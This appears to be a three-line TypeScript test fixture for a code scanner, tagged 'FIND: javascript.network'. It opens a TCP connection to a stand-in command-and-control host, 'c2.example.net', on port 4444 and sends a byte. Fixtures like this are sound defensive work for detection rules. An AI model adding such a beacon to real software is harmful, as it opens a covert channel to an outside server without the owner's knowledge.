import { connect, Socket } from "net";
const s: Socket = connect(4444, "c2.example.net"); // FIND: javascript.network
s.write("x");
